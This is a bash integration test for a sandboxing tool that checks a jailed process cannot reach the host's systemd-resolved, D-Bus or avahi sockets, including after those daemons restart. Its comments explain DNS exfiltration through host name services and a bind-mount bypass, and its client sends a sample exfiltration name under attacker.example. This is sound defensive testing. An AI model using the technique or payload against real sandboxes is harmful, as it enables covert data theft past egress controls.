#!/usr/bin/env bash
# DNS exfiltration through the host's name services: systemd-resolved answers any
# user's lookups over its varlink socket (glibc's nss-resolve) and over the system
# D-Bus (resolvectl, busctl), avahi over its own socket (nss-mdns), all open to
# every user, nobody included. A CMD that asks them for <data>.attacker.example has
# the host's DNS carry the data out, past the jail's own resolver and egress
# default deny. In CMD's view these sockets are hidden, as nscd's is, and stay hidden
# when a service restarts under a running jail (an upgrade restarting resolved): a
# restarted daemon unlinks its socket and binds a new one, which a bind mount over
# the old socket's path did not cover (the kernel detaches a mount whose mountpoint
# another namespace unlinks), so CMD reached the new socket.
#
#   unshare -m (private /run): fake resolved, system bus, avahi, logging what they get
#   jail --user nobody: CMD connects to each socket and sends a name; the fakes then
#   restart (new sockets at the same paths) and CMD tries again
. "$(dirname "$0")/../integration/lib.sh"

require_cmd unshare
cat > "$T/config.json" <<'EOF2'
{ "egress": { "default": "deny", "allow": ["api.example.com"] } }
EOF2
cat > "$T/svc.py" <<'PYEOF'
import os, select, socket, sys, time
log, ready, gates, paths = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4:]
def listen_all():
    socks = []
    for p in paths:
        os.makedirs(os.path.dirname(p), exist_ok=True)
        if os.path.exists(p):
            os.unlink(p)  # as a restarted daemon does
        s = socket.socket(socket.AF_UNIX)
        s.bind(p)
        os.chmod(p, 0o666)
        s.listen(8)
        socks.append(s)
    return socks
socks = listen_all()
open(ready, "w").close()
end = time.time() + 30
while time.time() < end:
    if os.path.exists(gates + "/restart") and not os.path.exists(gates + "/restarted"):
        for s in socks:
            s.close()
        socks = listen_all()
        open(gates + "/restarted", "w").close()
    r, _, _ = select.select(socks, [], [], 0.2)
    for s in r:
        c, _ = s.accept()
        c.settimeout(2)
        try:
            data = c.recv(256)
        except OSError:
            data = b""
        with open(log, "a") as f:
            f.write("%s got %r\n" % (s.getsockname(), data))
        c.close()
PYEOF
cat > "$T/client.py" <<'PYEOF'
import os, socket, sys, time
gates, paths = sys.argv[1], sys.argv[2:]
def try_all(phase):
    for p in paths:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(2)
        try:
            s.connect(p)
            s.sendall(b"6578666696c.attacker.example")
            print(phase, p, "connected")
        except OSError as e:
            print(phase, p, "refused", e.errno)
        s.close()
try_all("first")
open(gates + "/restart", "w").close()
for i in range(100):
    if os.path.exists(gates + "/restarted"):
        break
    time.sleep(0.05)
print("restarted" if os.path.exists(gates + "/restarted") else "not restarted")
try_all("after")
PYEOF
RESOLVED=/run/systemd/resolve/io.systemd.Resolve
BUS=/run/dbus/system_bus_socket
AVAHI=/run/avahi-daemon/socket
mkdir -p "$T/gates"
chmod 777 "$T/gates" # CMD runs as nobody and asks the fakes to restart
# A mount namespace of the test's own, whose /run is empty but for the fakes.
out=$(unshare -m --propagation private bash -c '
  set -e
  mount -t tmpfs -o mode=0755 tmpfs /run
  mkdir -p /run/systemd/resolve
  echo "nameserver 127.0.0.53" > /run/systemd/resolve/stub-resolv.conf
  "$1" "$2/svc.py" "$2/svc.log" "$2/ready" "$2/gates" "$4" "$5" "$6" 2> "$2/svc.err" &
  svc=$!
  trap "kill $svc 2>/dev/null; wait $svc 2>/dev/null || true" EXIT
  for i in $(seq 100); do [ -e "$2/ready" ] && break; sleep 0.05; done
  "$3" jail --config "$2/config.json" --user nobody -- sh -c "\"\$0\" \"\$@\"; cat /run/systemd/resolve/stub-resolv.conf" \
    "$1" "$2/client.py" "$2/gates" "$4" "$5" "$6"
  echo "jail status $?"
' _ "$PY" "$T" "$AUTHPROXY" "$RESOLVED" "$BUS" "$AVAHI" 2> "$T/jail.log")
assert_contains "$out" "jail status 0" "the jail's status"
[ -e "$T/ready" ] || fail "the fake services did not start: $(cat "$T/svc.err")"
assert_contains "$out" "restarted" "the fakes restarted"
# Ubuntu links /etc/resolv.conf to resolved's stub-resolv.conf: hidden with its
# directory, it says what the jail's own resolv.conf says.
assert_contains "$out" "written by authproxy jail" "resolved's stub-resolv.conf in the jail"
for phase in first after; do
  assert_contains "$out" "$phase $RESOLVED refused" "systemd-resolved's varlink socket in the jail ($phase)"
  assert_contains "$out" "$phase $BUS refused" "the system D-Bus socket in the jail ($phase)"
  assert_contains "$out" "$phase $AVAHI refused" "avahi's socket in the jail ($phase)"
done
assert_eq "$(cat "$T/svc.log" 2>/dev/null)" "" "what the host's name services received"
pass "CMD reaches no socket of systemd-resolved, the system bus or avahi, restarted or not"
